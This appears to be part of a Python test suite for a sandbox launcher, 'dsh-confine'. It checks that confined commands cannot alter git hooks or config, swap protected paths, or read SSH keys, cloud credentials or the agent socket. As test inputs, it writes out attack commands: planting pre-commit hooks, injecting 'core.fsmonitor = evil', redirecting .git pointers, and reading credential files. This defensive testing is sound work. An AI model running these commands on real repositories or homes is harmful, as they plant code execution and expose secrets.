    r = run(s, "bwrap", s.ws, "echo 'echo pwned' > proj/.git/hooks/pre-commit; echo x >> proj/.vscode/settings.json; "
            "git -C proj commit -q --allow-empty -m two && echo committed")
    assert r.rc == 0 and r.out == "committed\n", r
    assert not os.path.exists(os.path.join(proj, ".git/hooks/pre-commit")), r
    assert read(os.path.join(proj, ".vscode/settings.json")) == b"{}\n", r
    check_reported(r, "bwrap", [proj + "/.git", proj + "/.git/hooks", proj + "/.git/config", proj + "/.vscode"])
    assert not [p for p in entries(r) if p.startswith(deep + "/")], r


def test_a_file_system_without_entry_types(s):
    """On a file system whose listing gives no entry type (DT_UNKNOWN: ext2 without `filetype`, some
    network and FUSE file systems), a submodule's git directory under .git/modules and a repository
    one level down are still found: their hooks were left writable when such entries were skipped."""
    need_runner("bwrap")
    if not is_root():
        skip("mounting the file system needs root")
    if not shutil.which("mkfs.ext2") or not shutil.which("mount"):
        skip("no mkfs.ext2 or mount here (e2fsprogs, mount)")
    img, mnt = s.p("base", "notypes.img"), s.p("base", "notypes")
    with open(img, "wb") as f:
        f.truncate(16 << 20)
    os.makedirs(mnt)
    made = subprocess.run(["mkfs.ext2", "-q", "-F", "-O", "^filetype", img], stdout=subprocess.PIPE,
                          stderr=subprocess.STDOUT)
    if made.returncode != 0:
        skip("mkfs.ext2 -O ^filetype failed: %r" % made.stdout)
    mounted = subprocess.run(["mount", "-o", "loop", img, mnt], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    if mounted.returncode != 0:
        skip("no loop mount here: %r" % mounted.stdout)
    try:
        fd = os.open(mnt, os.O_RDONLY | os.O_DIRECTORY)
        try:
            assert b"lost+found" in getdents_unknown(fd), "the listing gives entry types: the case is not made"
        finally:
            os.close(fd)
        top, sub = os.path.join(mnt, "top"), os.path.join(mnt, "subsrc")
        make_repo(s, sub)
        repo = os.path.join(top, "repo")
        make_repo(s, repo)
        git(s, repo, "submodule", "add", "-q", "file://" + sub, "sub")
        git(s, repo, "commit", "-q", "-m", "sub")
        hook = os.path.join(repo, ".git", "modules", "sub", "hooks", "pre-commit")
        nested_hook = os.path.join(repo, ".git", "hooks", "pre-commit")
        for root, rel in ((repo, ".git/modules/sub/hooks/pre-commit"), (top, "repo/.git/hooks/pre-commit")):
            r = run(s, "bwrap", root, "echo 'echo pwned' > %s; echo done" % rel)
            assert r.out == "done\n", r
            assert not os.path.exists(hook) and not os.path.exists(nested_hook), (root, r)
    finally:
        subprocess.run(["umount", "-l", mnt])


def test_a_submodule_named_with_a_slash_is_found(s):
    """`git submodule add URL libs/sub` names the submodule "libs/sub": its git directory is
    .git/modules/libs/sub, and its own submodules' under .git/modules/libs/sub/modules. Taken as one
    level each, they were neither bound nor watched (an attack pass planted core.fsmonitor there,
    which the next unconfined git status ran)."""
    need_runner("bwrap")
    inner, up = s.p("base", "inner"), s.p("base", "up")
    make_repo(s, inner)
    make_repo(s, up)
    git(s, up, "submodule", "add", "-q", "file://" + inner, "in2")
    git(s, up, "commit", "-q", "-m", "in2")
    make_repo(s, s.ws)
    git(s, s.ws, "submodule", "add", "-q", "file://" + up, "libs/sub")
    git(s, s.ws, "commit", "-q", "-m", "sub")
    git(s, s.ws, "submodule", "update", "-q", "--init", "--recursive")
    gd = s.ws + "/.git/modules/libs/sub/modules/in2"
    assert os.path.isdir(gd + "/hooks"), "the nested layout is not made"
    r = run(s, "bwrap", s.ws, "echo 'echo pwned' > .git/modules/libs/sub/modules/in2/hooks/pre-commit; "
            "echo 'echo pwned' > .git/modules/libs/sub/hooks/pre-commit; echo done")
    assert r.out == "done\n", r
    assert not os.path.exists(gd + "/hooks/pre-commit"), r
    assert not os.path.exists(s.ws + "/.git/modules/libs/sub/hooks/pre-commit"), r
    es = entries(r)
    assert gd + "/hooks" in es and gd + "/config" in es, sorted(es)


def getdents_unknown(fd):
    """The names whose entry type the listing of `fd` leaves unknown (DT_UNKNOWN)."""
    import ctypes
    import struct
    libc = ctypes.CDLL(None, use_errno=True)
    buf = ctypes.create_string_buffer(8192)
    out = set()
    while True:
        n = libc.syscall(217, fd, buf, len(buf))  # getdents64 (x86_64)
        if n <= 0:
            return out
        at = 0
        while at < n:
            _ino, _off, reclen, kind = struct.unpack_from("QqHB", buf.raw, at)
            name = buf.raw[at + 19:at + reclen].split(b"\0")[0]
            if kind == 0:
                out.add(name)
            at += reclen


def test_a_fifo_where_a_file_is_read_is_never_opened(s):
    """The files the launcher reads (.gitmodules, a git config) are opened only once a regular file
    was seen there: a FIFO (or a device node, where opening has effects) planted in their place is
    never opened. Seen from outside: a writer blocked opening each FIFO would be let through."""
    need_runner("bwrap")
    make_repo(s, s.ws)
    fifos = [os.path.join(s.ws, ".gitmodules"), os.path.join(s.ws, ".git", "config.worktree")]
    writers = []
    for i, f in enumerate(fifos):
        os.mkfifo(f)
        marker = s.p("base", "opened-%d" % i)
        writers.append((f, marker, subprocess.Popen(["sh", "-c", 'exec 3>"$1"; echo yes > "$2"', "_", f, marker])))
    try:
        for f, marker, w in writers:
            wait_blocked_opening_fifo(w.pid)
        for runner, extra in (("bwrap", []), ("landlock", ["--unprotect", s.ws])):
            r = run(s, runner, s.ws, "echo ran", extra=extra)
            assert r.rc == 0 and r.out == "ran\n", (runner, r)
        # An open for reading would have woken the writer at once (in that open): still asleep
        # in its open, it never saw a reader.
        for f, marker, w in writers:
            assert blocked_opening_fifo(w.pid), (f, "opened by dsh-confine")
            assert w.poll() is None and not os.path.exists(marker), (f, "opened by dsh-confine")
    finally:
        for f, marker, w in writers:
            fd = os.open(f, os.O_RDONLY | os.O_NONBLOCK)  # lets the writer through, then it ends
            w.wait(timeout=10)
            os.close(fd)
            os.unlink(f)


def test_no_descriptor_of_ours_reaches_the_command(s):
    """The carve-outs' descriptors cross bwrap for its binds; the command holds none of them."""
    need_runner("bwrap")
    make_repo(s, s.ws)
    for extra in ([], ["--supervise"]):
        r = run(s, "bwrap", s.ws, "ls /proc/$$/fd", extra=extra)
        assert r.rc == 0 and r.out.split() == ["0", "1", "2"], r
        assert sum(1 for e in entries(r).values() if e["enforced"]) >= 3, r


def test_who_binds_the_carve_outs(s):
    """A root caller's stage binds them itself (the new mount API, no mountinfo read per bind); anyone
    else's bwrap does. The report says which, and the binds hold either way (the attacks above)."""
    need_runner("bwrap")
    make_repo(s, s.ws)
    r = run(s, "bwrap", s.ws, "true")
    binds = r.rec("confinement")["layers"][0]["carveOutBinds"]
    assert binds == ("stage" if is_root() else "bwrap"), r
    # In bwrap's profile when bwrap binds them, on the stage's command line when the stage does.
    argv = r.rec("confinement")["execArgv"]
    profile, stage = argv[:argv.index("--")], argv[argv.index("--"):]
    assert (s.ws + "/.git/hooks" in profile) == (binds == "bwrap"), argv
    # A run walks them while bwrap starts, so its stage is told to wait for them (--carve-late);
    # explain's plan, walked first, names each on the stage's command line.
    assert ("--carve-late" in stage) == (binds == "stage"), argv
    plan = dsh(["explain", "--json", "--mode", "workspace-write", "--root", s.ws, "--runner", "bwrap", "--", "sh",
                "-c", "true"], s, cwd=s.ws, report=False)
    planned = json.loads(plan.out)["confinement"]["execArgv"]
    # Where bwrap binds them the stage is told them too, to check each one landed (issue 37).
    assert "--carve" in planned[planned.index("--"):], planned
    assert ("--carves-bound" in planned[planned.index("--"):]) == (binds == "bwrap"), planned
    # A hidden path over a carve-out: bwrap hides after its own binds, so they all stay bwrap's, and
    # the hooks stay hidden (an empty read-only directory) either way.
    r = run(s, "bwrap", s.ws, "ls -A .git/hooks | wc -l; touch .git/hooks/x",
            extra=["--deny-read", s.ws + "/.git/hooks"])
    assert r.rec("confinement")["layers"][0]["carveOutBinds"] == "bwrap", r
    assert r.out == "0\n" and r.rc != 0, r
    assert not os.path.exists(os.path.join(s.ws, ".git/hooks/x")), r


def test_the_walk_made_while_bwrap_starts(s):
    """A root caller's run walks the carve-outs while bwrap builds the sandbox, its stage waiting for
    them before anything of the command runs. The run's record is what explain's plan (walked first)
    says, in exec and supervise mode; a walk that fails after the spawn (a link planted in a protected
    place) fails the run with the one line it fails with before a spawn, at once: nothing ran, and no
    process of the run (bwrap, its init, the waiting stage) is left."""
    need_runner("bwrap")
    make_repo(s, s.ws)
    args = ["--mode", "workspace-write", "--root", s.ws, "--runner", "bwrap"]
    plan = dsh(["explain", "--json"] + args + ["--", "sh", "-c", "true"], s, cwd=s.ws, report=False)
    planned = json.loads(plan.out)["confinement"]
    for extra in ([], ["--supervise"]):
        r = run(s, "bwrap", s.ws, "true", extra=extra)
        got = r.rec("confinement")
        assert r.rc == 0 and ("--carve-late" in got["execArgv"]) == is_root(), r
        # The report's line ends with the run's nonce; explain's plan is no report line and has none.
        assert "run" not in planned and len(got["run"]) == 32, (got, planned)
        assert {k: v for k, v in got.items() if k not in ("execArgv", "run")} == \
            {k: v for k, v in planned.items() if k != "execArgv"}, (extra, got, planned)
    os.rename(os.path.join(s.ws, ".vscode"), os.path.join(s.outside, "vscode"))
    os.symlink(os.path.join(s.outside, "vscode"), os.path.join(s.ws, ".vscode"))
    p = s.ws + "/.vscode"
    # Ten times each: the walk fails within bwrap's first moments, where a bwrap killed then left its
    # child waiting for ever, holding the run's output open (the caller never saw its end).
    for extra in [[], ["--supervise"]] * 10:
        word = "late-walk-%d-%d" % (os.getpid(), len(extra))
        r = dsh(args + extra + ["--", "sh", "-c", "touch ran", word], s, cwd=s.ws, env=dict(GIT_ENV), timeout=20)
        assert r.rc == 125 and r.err == SYMLINK_TEXT.format(path=p, link=p), (extra, r)
        assert not os.path.exists(os.path.join(s.ws, "ran")), (extra, r)
        assert [rec["type"] for rec in r.report] == ["error"], (extra, r)
        left = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as f:
                    if word.encode() in f.read().split(b"\0"):
                        left.append(pid)
            except OSError:
                pass
        assert not left, (extra, left)
    # How: the stage is told the word will not come and ends with 125, bwrap with it; bwrap is never
    # killed (a wrapper that runs it writes down how it ended: killed, the wrapper would not).
    if is_root():
        status = s.p("base", "bwrap-status")
        stub = s.script("status-bwrap", "#!/bin/sh\nfor a; do last=$a; done\n"
                        "[ \"$last\" = __dsh_confine_probe_v1 ] && exec /usr/bin/bwrap \"$@\"\n"
                        "/usr/bin/bwrap \"$@\"\necho $? > '%s'\n" % status)
        conf = s.sealed_config({"bwrapPath": stub})
        cache = s.p("base", "cache")
        os.makedirs(cache, mode=0o700, exist_ok=True)
        for extra in ([], ["--supervise"]):
            r = dsh(args + extra + ["--config", conf, "--", "sh", "-c", "touch ran"], s,
                    cwd=s.ws, env=dict(GIT_ENV, XDG_RUNTIME_DIR=None, XDG_CACHE_HOME=cache), timeout=20)
            assert r.rc == 125 and r.err == SYMLINK_TEXT.format(path=p, link=p), (extra, r)
            ended = read(status) if os.path.exists(status) else b"killed"
            assert ended == b"125\n" and not os.path.exists(os.path.join(s.ws, "ran")), (extra, ended, r)
            os.unlink(status)


def test_a_launcher_killed_while_it_walks(s):
    """A root run's stage waits for the walk; a launcher SIGKILLed in the middle of it (long
    configs make the walk last), with the stage waiting, takes bwrap, its init and the stage
    along, and nothing of the command runs: the stage never had the word to go on."""
    need_runner("bwrap")
    if not is_root():
        skip("a walk after the spawn is a root caller's (the stage binds); anyone else's is made before it")
    # The walk reads every config git would, includes and all: twenty included files of nearly
    # 4 MiB each (the walk's bound for one) keep it busy for about half a second after the spawn.
    make_repo(s, s.ws)
    filler = ("#" + "x" * 78 + "\n") * 49000
    with open(os.path.join(s.ws, ".git", "config"), "a") as f:
        f.write("".join("[include]\n\tpath = c%d\n" % i for i in range(20)))
    for i in range(20):
        with open(os.path.join(s.ws, ".git", "c%d" % i), "w") as f:
            f.write(filler)
    word = "killed-walk-%d" % os.getpid()
    e = s.env()
    e.update(GIT_ENV)
    proc = subprocess.Popen([DSH, "--mode", "workspace-write", "--root", s.ws, "--runner", "bwrap", "--", "sh", "-c",
                             "touch ran", word], cwd=s.ws, env=e, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)

    def ours():
        """The run's processes but the launcher: pid -> name (the stage's is its fd's number)."""
        found = {}
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as f:
                    argv = f.read().split(b"\0")
                with open("/proc/%s/comm" % pid) as f:
                    name = f.read().strip()
            except OSError:
                continue
            if word.encode() in argv and int(pid) != proc.pid:
                found[pid] = name
        return found

    # Killed once the stage is there (bwrap has built the sandbox and exec'd it: it waits for the
    # word), while the walk goes on.
    deadline = time.time() + 30
    while not any(n.isdigit() for n in ours().values()) and proc.poll() is None and time.time() < deadline:
        time.sleep(0.001)
    assert proc.poll() is None and any(n.isdigit() for n in ours().values()), "no stage seen while the launcher walked"
    proc.kill()
    assert proc.wait(timeout=30) == -signal.SIGKILL
    deadline = time.time() + 10
    while ours() and time.time() < deadline:
        time.sleep(0.01)
    assert not ours(), "a process of the run outlived the launcher"
    assert not os.path.exists(os.path.join(s.ws, "ran"))


def test_a_carve_out_swapped_before_the_stage_binds_it(s):
    """The launcher opens .git/hooks; a bwrap that swaps it for a fresh directory before the sandbox is
    built (a racing host process would do the same). A root caller's stage finds another inode at the
    path and refuses the run (nothing runs); bwrap's own bind mounts the descriptor the launcher opened,
    so there the original stays in view, read-only."""
    need_runner("bwrap")
    make_repo(s, s.ws)
    hooks = os.path.join(s.ws, ".git/hooks")
    # A root caller's run walks while bwrap starts (the stage waits for the list): the swap waits
    # until that walk has opened .git/hooks (the launcher, this stub's parent, holds it), so it
    # lands between the launcher's open and the bind.
    stub = s.script("swapping-bwrap", "#!/bin/sh\nfor a; do last=$a; done\n"
                    "held() { for f in /proc/$PPID/fd/*; do [ \"$(readlink \"$f\")\" = '%s' ] && return 0; done; "
                    "return 1; }\n"
                    "if [ \"$last\" != __dsh_confine_probe_v1 ]; then\n"
                    "  i=0; until held; do i=$((i+1)); [ $i -lt 2000 ] || exit 8; sleep 0.005; done\n"
                    "  mv '%s' '%s.old' && mkdir '%s' || exit 9\nfi\n"
                    "exec /usr/bin/bwrap \"$@\"\n" % (hooks, hooks, hooks, hooks))
    conf = s.sealed_config({"bwrapPath": stub})
    cache = s.p("base", "cache")
    os.makedirs(cache, mode=0o700, exist_ok=True)
    marker = os.path.join(s.ws, "ran")
    r = run(s, "bwrap", s.ws, "touch ran; ls .git/hooks; echo x > .git/hooks/pre-commit",
            extra=["--config", conf],
            env={"XDG_RUNTIME_DIR": None, "XDG_CACHE_HOME": cache})
    if is_root():
        message = (SANDBOX_UNAVAILABLE.format(mode="workspace-write") + " Runner failure: " + hooks +
                   " was replaced after dsh-confine opened it; nothing was run: run the command again")
        assert r.rc == 125 and r.err.endswith("dsh-confine: " + message + "\n"), r
        assert not os.path.exists(marker), r
    else:
        assert r.rc != 0 and os.path.exists(marker) and "Read-only file system" in r.err, r
    assert not os.path.exists(os.path.join(hooks, "pre-commit")), r
    assert not os.path.exists(os.path.join(hooks + ".old", "pre-commit")), r


def test_the_stage_binds_with_and_without_open_tree_attr(s):
    """A root caller's stage binds each carve-out with open_tree_attr (Linux 6.15) and falls back to
    open_tree and mount_setattr where the kernel or a filter refuses it (here: a seccomp filter
    answering ENOSYS). Either way the binds hold: the hook and the config stay unwritten, .git cannot
    be renamed, and what git needs stays writable."""
    need_runner("bwrap")
    if not is_root():
        skip("the stage binds the carve-outs for a root caller only; bwrap binds them otherwise")
    make_repo(s, s.ws)
    before = read(os.path.join(s.ws, ".git/config"))
    attack = ("echo x > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config; mv .git .git-old; "
              "git commit -q --allow-empty -m in && echo committed")
    for pre in ([], [tool("sysfault"), "ENOSYS", "467", "--"]):
        r = run(s, "bwrap", s.ws, attack, pre=pre)
        assert r.rc == 0 and r.out == "committed\n", (pre, r)
        assert r.rec("confinement")["layers"][0]["carveOutBinds"] == "stage", r
        assert r.err.count("Read-only file system") == 2 and "Device or resource busy" in r.err, (pre, r)
        assert not os.path.exists(os.path.join(s.ws, ".git/hooks/pre-commit")), (pre, r)
        assert read(os.path.join(s.ws, ".git/config")) == before, (pre, r)
        assert not os.path.exists(os.path.join(s.ws, ".git-old")), (pre, r)


def test_who_holds_the_carve_outs_while_the_command_runs(s):
    """The stage's check (the path is still the inode the launcher opened) needs that inode kept until
    it is made, or its number could be reused: dsh-confine holds each carve-out's descriptor for the
    whole run, in exec and supervise modes, whoever binds them (the stage's argv carries only the
    device and inode numbers). Seen from outside, in /proc."""
    need_runner("bwrap")
    make_repo(s, s.ws)
    hooks = os.path.join(s.ws, ".git", "hooks")
    for extra in ([], ["--supervise"]):
        marker = os.path.join(s.tmpdir, "started")
        if os.path.exists(marker):
            os.unlink(marker)
        p = subprocess.Popen([DSH, "--mode", "workspace-write", "--root", s.ws, "--runner", "bwrap"] + extra +
                             ["--", "sh", "-c", "touch %s; exec sleep 30" % marker], cwd=s.ws, env=s.env(),
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            deadline = time.time() + 20
            while not os.path.exists(marker) and time.time() < deadline:
                time.sleep(0.05)
            assert os.path.exists(marker), "the command never started"

            def holds(pid):
                d = "/proc/%d/fd" % pid
                return any(os.readlink(os.path.join(d, n)) == hooks for n in os.listdir(d))

            assert holds(p.pid), extra
        finally:
            p.kill()
            p.wait(timeout=10)


def test_auto_prefers_bwrap_when_protected_paths_exist(s):
    need_runner("bwrap")
    make_repo(s, s.ws)
    r = dsh(["--mode", "workspace-write", "--root", s.ws, "--", "true"], s)
    assert r.rec("confinement")["runner"] == "bwrap", r


# The git workflow matrix.
WORKFLOW = ("set -e; echo two >> a.txt; git add a.txt; git commit -q -m two; git branch b1; git checkout -q b1; "
            "echo three >> a.txt; git commit -q -am three; git checkout -q main; echo dirty >> a.txt; "
            "git stash -q; git stash pop -q; git checkout -q -- a.txt; git checkout -q b1; git rebase -q main; "
            "git gc -q; git worktree add -q ../wt-in -b b2; git -C ../wt-in commit -q --allow-empty -m wt; "
            "git log --oneline | wc -l")


def matrix_plain(s, runner):
    need_runner(runner)
    repo = os.path.join(s.ws, "repo")
    make_repo(s, repo)
    r = run(s, runner, repo, WORKFLOW, extra=["--writable", s.ws])
    assert r.rc == 0 and r.out.strip() == "3", r
    assert git(s, repo, "log", "--oneline", "b2").count("\n") == 4


def matrix_worktree(s, runner):
    need_runner(runner)
    repo = os.path.join(s.ws, "repo")
    make_repo(s, repo)
    wt = os.path.join(s.ws, "wt")
    git(s, repo, "worktree", "add", "-q", wt, "-b", "wtb")
    r = run(s, runner, wt, "set -e; echo w >> a.txt; git commit -q -am w; git branch wtc; git checkout -q wtc; "
            "git stash list; git rebase -q wtb; git gc -q; echo ok", extra=["--writable", repo])
    assert r.rc == 0 and r.out.endswith("ok\n"), r
    es = entries(r)
    # The pointer, the worktree's private gitdir and the common dir's hooks and config.
    for p in (wt + "/.git", repo + "/.git/worktrees/wt/commondir", repo + "/.git/hooks", repo + "/.git/config"):
        assert es[p]["exists"], (p, es)
    if runner == "bwrap":
        r = run(s, runner, wt, "echo 'gitdir: /tmp/evil' > .git; echo x > %s/.git/hooks/pre-commit; true" % repo,
                extra=["--writable", repo])
        assert read(os.path.join(wt, ".git")).startswith(b"gitdir: " + repo.encode()), r
        assert not os.path.exists(os.path.join(repo, ".git/hooks/pre-commit"))


def matrix_submodule(s, runner):
    need_runner(runner)
    sub = os.path.join(s.outside, "subsrc")
    make_repo(s, sub)
    repo = s.ws
    make_repo(s, repo)
    git(s, repo, "submodule", "add", "-q", "file://" + sub, "sub")
    git(s, repo, "commit", "-q", "-m", "sub")
    # As after a clone with --recurse-submodules: update has run once and set the submodule's
    # core.worktree (git writes it on the first update, into a config that is protected here).
    git(s, repo, "submodule", "update", "-q")
    first = git(s, os.path.join(repo, "sub"), "rev-parse", "HEAD").strip()
    with open(os.path.join(sub, "a.txt"), "a") as f:
        f.write("two\n")
    git(s, sub, "commit", "-q", "-am", "two")
    git(s, os.path.join(repo, "sub"), "pull", "-q", "origin", "main")
    git(s, repo, "commit", "-q", "-am", "sub two")
    second = git(s, os.path.join(repo, "sub"), "rev-parse", "HEAD").strip()
    git(s, os.path.join(repo, "sub"), "checkout", "-q", first)
    r = run(s, runner, repo, "set -e; git -c protocol.file.allow=always submodule update -q; "
            "git -C sub commit -q --allow-empty -m in-sub; git add sub; git commit -q -m bump; echo ok")
    assert r.rc == 0 and r.out == "ok\n", r
    assert git(s, os.path.join(repo, "sub"), "rev-parse", "HEAD~1").strip() == second
    es = entries(r)
    for p in (repo + "/sub/.git", repo + "/.git/modules/sub/hooks", repo + "/.git/modules/sub/config"):
        assert es[p]["exists"], (p, es)
    if runner == "bwrap":
        assert es[repo + "/.git/modules/sub/hooks"]["enforced"] == "read-only-bind", es
        assert es[repo + "/.git/modules/sub/config"]["whyNot"] == SUBMODULE_TEXT, es
        assert "protected-paths" in gap_effects(r), r
        r = run(s, runner, repo, "echo x > .git/modules/sub/hooks/pre-commit; echo 'gitdir: /tmp' > sub/.git; true")
        assert not os.path.exists(os.path.join(repo, ".git/modules/sub/hooks/pre-commit")), r
        assert read(os.path.join(repo, "sub/.git")) == b"gitdir: ../.git/modules/sub\n", r
    # The submodule's config is only watched: a change is the integrity check's violation.
    r = run(s, runner, repo, "git -C sub config core.fsmonitor 'touch /tmp/x'", extra=["--supervise"])
    assert r.rec("result")["violations"] == [{"type": "protected-path-changed",
                                              "path": repo + "/.git/modules/sub/config"}], r
    assert r.rc == INTEGRITY_STATUS, r
    # Over 64 KiB it is watched by its stat line: rewritten in place at the same size with its
    # mtime put back, its ctime (which no call of the command's can set) still tells.
    config = os.path.join(repo, ".git/modules/sub/config")
    git(s, os.path.join(repo, "sub"), "config", "--unset", "core.fsmonitor")
    with open(config, "a") as f:
        f.write("# " + "x" * 70000 + "\n")
    big = ("import os; p = '.git/modules/sub/config'; st = os.stat(p); f = open(p, 'r+b'); f.seek(-2, 2); "
           "f.write(b'y'); f.close(); os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))")
    r = run(s, runner, repo, "python3 -c \"%s\"" % big, extra=["--supervise"])
    assert r.rec("result")["violations"] == [{"type": "protected-path-changed", "path": config}], r
    assert r.rc == INTEGRITY_STATUS, r


# bwrap only: landlock refuses a run with protected paths (issue 37).
for _runner in ("bwrap",):
    for _f in (matrix_plain, matrix_worktree, matrix_submodule):
        def _t(s, runner=_runner, f=_f):
            f(s, runner)
        globals()["test_git_%s__%s" % (_f.__name__, _runner)] = _t


def leftovers(s, supervise):
    need_runner("bwrap")
    make_repo(s, s.ws)
    h, _ = fake_home(s)  # a home-shaped tree, not $HOME: a root holding $HOME is refused
    env = {}
    names = listing(s.ws, h)
    args = ["--mode", "workspace-write", "--root", s.ws, "--writable", h, "--runner", "bwrap"]
    args += ["--supervise"] if supervise else []
    r = dsh(args + ["--", "true"], s, env=env)
    assert r.rc == 0, r
    assert any(e["exists"] and e["enforced"] for e in entries(r).values()), r
    assert listing(s.ws, h) == names
    # SIGKILL of dsh-confine mid-run: the sandbox dies with it and leaves nothing behind. The
    # run's processes (bwrap, the command) are the ones naming its own sleep argument, which no
    # other test's process has.
    marker = os.path.join(s.tmpdir, "started")
    token = unique_sleep()
    e = s.env()
    e.update({k: v for k, v in env.items() if v is not None})
    e.pop("XDG_RUNTIME_DIR", None)
    p = subprocess.Popen([DSH] + args + ["--", "sh", "-c", "touch %s; exec sleep %s" % (marker, token)], cwd=s.ws,
                         env=e, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    deadline = time.time() + 20
    while not os.path.exists(marker) and p.poll() is None and time.time() < deadline:
        time.sleep(0.02)
    assert os.path.exists(marker), "the command never started"
    # The check can see the run: the command (`sleep TOKEN`, after its exec) names the token.
    deadline = time.time() + 10
    while not sleepers(token) and time.time() < deadline:
        time.sleep(0.02)
    assert sleepers(token), "the command is not seen running"
    p.send_signal(signal.SIGKILL)
    p.wait(timeout=10)
    left = wait_gone(token)
    assert not left, "processes of the run outlived dsh-confine: %s" % left
    assert listing(s.ws, h) == names


def test_no_leftovers__exec(s):
    leftovers(s, False)


def test_no_leftovers__supervise(s):
    leftovers(s, True)


def deny_read(s, runner, mode):
    """--deny-read: a fake home's private key and cloud credentials cannot be read, in every mode."""
    need_runner(runner)
    h = os.path.join(s.base, "secrets-home")
    os.makedirs(os.path.join(h, ".ssh"))
    os.makedirs(os.path.join(h, ".aws"))
    for n, body in ((".ssh/id_ed25519", "PRIVATE\n"), (".ssh/id_ed25519.pub", "PUBLIC\n"),
                    (".aws/credentials", "AKIA\n")):
        with open(os.path.join(h, n), "w") as f:
            f.write(body)
    names = listing(h)
    r = dsh(["--mode", mode, "--root", s.ws, "--runner", runner, "--deny-read", h + "/.ssh/id_ed25519",
             "--deny-read", h + "/.aws", "--", "sh", "-c",
             "cat %s/.ssh/id_ed25519 %s/.ssh/id_ed25519.pub; cat %s/.aws/credentials; true" % (h, h, h)], s)
    if runner == "landlock":
        # It cannot hide them: refused (issue 37), nothing read.
        assert r.rc == 125 and r.out == "" and r.rec("error")["code"] == "PROTECTION_UNAVAILABLE", r
        assert r.err.startswith("dsh-confine: landlock cannot hide "), r
        assert listing(h) == names
        return
    assert r.rc == 0, r
    hidden = {e["path"]: e for e in r.rec("confinement")["hiddenPaths"]}
    assert set(hidden) == {h + "/.ssh/id_ed25519", h + "/.aws"}, hidden
    if runner == "bwrap":
        assert r.out == "PUBLIC\n", r
        assert hidden[h + "/.aws"]["enforced"] == "empty-tmpfs", hidden
        assert hidden[h + "/.ssh/id_ed25519"]["enforced"] == "dev-null-bind", hidden
    assert listing(h) == names


for _runner in RUNNERS:
    for _mode in ("read-only", "workspace-write"):
        def _t(s, runner=_runner, mode=_mode):
            deny_read(s, runner, mode)
        globals()["test_deny_read__%s__%s" % (_runner, _mode.replace("-", "_"))] = _t


CONNECT = ("import socket,sys\n"
           "s=socket.socket(socket.AF_UNIX)\n"
           "try:\n"
           "    s.connect(sys.argv[1]); print('agent')\n"
           "except OSError as e:\n"
           "    print('no-agent')\n")


def hide_secrets(s, runner):
    """--hide-secrets in a HOME the test makes: private keys (also an IdentityFile elsewhere) and
    credentials unreadable, public keys and known_hosts readable, the agent socket unreachable."""
    import socket
    need_runner(runner)
    h = os.path.join(s.base, "shome")
    for d in (".ssh", ".aws", "keys"):
        os.makedirs(os.path.join(h, d))
    files = {".ssh/id_ed25519": "PRIV\n", ".ssh/id_ed25519.pub": "PUB\n", ".ssh/known_hosts": "KH\n",
             ".ssh/config": "Host x\n  IdentityFile ~/keys/work\n", "keys/work": "WORK\n", ".aws/credentials": "AK\n"}
    for n, body in files.items():
        with open(os.path.join(h, n), "w") as f:
            f.write(body)
    sock_path = os.path.join(s.base, "agent.sock")
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(sock_path)
    srv.listen(1)
    try:
        script = ("for f in .ssh/id_ed25519 .ssh/id_ed25519.pub .ssh/known_hosts keys/work .aws/credentials; do "
                  "cat $HOME/$f 2>/dev/null || echo hidden; done; echo \"sock=${SSH_AUTH_SOCK-unset}\"; "
                  "python3 -c \"$1\" \"$2\"")
        r = dsh(["--mode", "read-only", "--runner", runner, "--hide-secrets", "--", "sh", "-c", script, "sh",
                 CONNECT, sock_path], s, env={"HOME": h, "SSH_AUTH_SOCK": sock_path})
    finally:
        srv.close()
    if runner == "landlock":
        # It cannot hide them: refused (issue 37), nothing read.
        assert r.rc == 125 and r.out == "" and r.rec("error")["code"] == "PROTECTION_UNAVAILABLE", r
        return
    hidden = {e["path"]: e for e in r.rec("confinement")["hiddenPaths"]}
    # ~/.ssh is hidden whole (its public parts bound back: tests/e2e/test_secrets.py).
    for p in (h + "/.ssh", h + "/keys/work", h + "/.aws", sock_path):
        assert hidden[p]["exists"] and hidden[p]["source"] == "hide-secrets", (p, hidden)
    assert h + "/.ssh/id_ed25519.pub" not in hidden and h + "/.ssh/known_hosts" not in hidden, hidden
    # The variable is unset under every runner (reported as unset); the socket itself is
    # unreachable only where the runner can hide it.
    assert r.rec("confinement")["environment"]["unset"] == ["SSH_AUTH_SOCK"], r.rec("confinement")["environment"]
    assert r.out == "hidden\nPUB\nKH\nhidden\nhidden\nsock=unset\nno-agent\n", r


def test_hide_secrets_with_a_fifo_for_the_ssh_config(s):
    """~/.ssh/config is read for IdentityFile lines: a FIFO planted there (by an earlier run whose
    root held $HOME) neither hangs the start nor is opened (a writer blocked on it stays blocked)."""
    need_runner("landlock")
    h = os.path.join(s.base, "fhome")
    os.makedirs(os.path.join(h, ".ssh"))
    with open(os.path.join(h, ".ssh", "id_ed25519"), "w") as f:
        f.write("PRIV\n")
    fifo, marker = os.path.join(h, ".ssh", "config"), s.p("base", "ssh-config-opened")
    os.mkfifo(fifo)
    writer = subprocess.Popen(["sh", "-c", 'exec 3>"$1"; echo yes > "$2"', "_", fifo, marker])
    try:
        wait_blocked_opening_fifo(writer.pid)
        r = dsh(["--mode", "read-only", "--runner", "landlock", "--hide-secrets", "--", "echo", "ran"], s,
                env={"HOME": h}, timeout=20)
        # Landlock cannot hide what it found (issue 37): refused, after the look that found it.
        assert r.rc == 125 and r.out == "", r
        assert r.rec("error")["message"].startswith("landlock cannot hide %s/.ssh" % h), r
        # An open for reading would have woken the writer at once: still asleep in its open, it never saw one.
        assert blocked_opening_fifo(writer.pid), "the FIFO was opened"
        assert writer.poll() is None and not os.path.exists(marker), "the FIFO was opened"
    finally:
        fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
        writer.wait(timeout=10)
        os.close(fd)


def test_hide_secrets__bwrap(s):
    hide_secrets(s, "bwrap")


def test_hide_secrets__landlock(s):
    hide_secrets(s, "landlock")


